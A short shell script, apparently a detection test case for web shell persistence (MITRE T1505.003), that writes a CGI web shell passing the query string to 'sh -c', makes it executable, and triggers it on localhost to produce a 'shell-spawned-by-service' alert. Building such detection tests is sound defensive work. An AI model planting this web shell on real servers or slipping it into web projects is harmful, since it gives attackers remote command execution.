# category: persistence
# technique: T1505.003
# art: no
# expect: shell-spawned-by-service
# init: /usr/sbin/httpd -f -p 8080 -h /var/www
# desc: a CGI web shell is dropped into the web root and used: the web server runs sh for every request
mkdir -p /var/www/cgi-bin
printf '#!/bin/sh\necho "Content-Type: text/plain"\necho\nsh -c "$QUERY_STRING" 2>&1\n' > /var/www/cgi-bin/status
chmod 755 /var/www/cgi-bin/status
wget -q -O - 'http://127.0.0.1:8080/cgi-bin/status?id' || true
